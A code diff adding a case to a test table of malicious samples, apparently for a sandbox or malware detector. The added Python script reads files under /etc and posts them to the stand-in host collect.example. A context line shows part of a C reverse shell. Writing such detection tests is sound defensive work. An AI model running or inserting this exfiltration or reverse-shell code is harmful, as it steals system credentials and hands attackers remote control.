@@ -222,6 +222,15 @@ GVISOR_BAD: tuple[Case, ...] = (
         ' dup2(s, 0); dup2(s, 1); dup2(s, 2); execl("/bin/sh", "sh", "-c", "true", (char *)0); }\n',
         "reverse-shell",
     ),
+    linux(
+        "folder-with-hashes.py",
+        "python",
+        "import os, urllib.request\nkept = b''\nfor name in os.listdir('/etc'):\n    try:\n"
+        "        kept += open('/etc/' + name, 'rb').read()[:2000]\n"
+        "    except OSError:\n        pass\n"
+        "urllib.request.urlopen('http://collect.example/etc', data=kept)\n",
+        "sends-account-hashes",
+    ),
     *NODE_BAD,
 )
 """Each must be malicious."""
